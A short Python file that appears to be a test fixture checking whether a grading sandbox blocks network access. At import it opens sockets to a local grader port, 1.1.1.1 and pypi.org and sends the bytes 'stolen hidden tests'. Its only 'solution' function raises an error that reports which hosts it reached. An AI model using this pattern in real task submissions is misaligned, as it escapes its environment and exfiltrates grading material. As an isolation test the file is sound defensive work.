"""Open network connections: to a port on the grading machine, and to the internet."""
import socket

reached = []
for host, port in [("127.0.0.1", __PORT__), ("1.1.1.1", 80), ("pypi.org", 443)]:
    try:
        with socket.create_connection((host, port), timeout=1) as s:
            s.sendall(b"stolen hidden tests")
        reached.append(host)
    except OSError:
        pass


def compute_mean_variance(X):
    raise RuntimeError(f"hostile-reached={reached!r}")
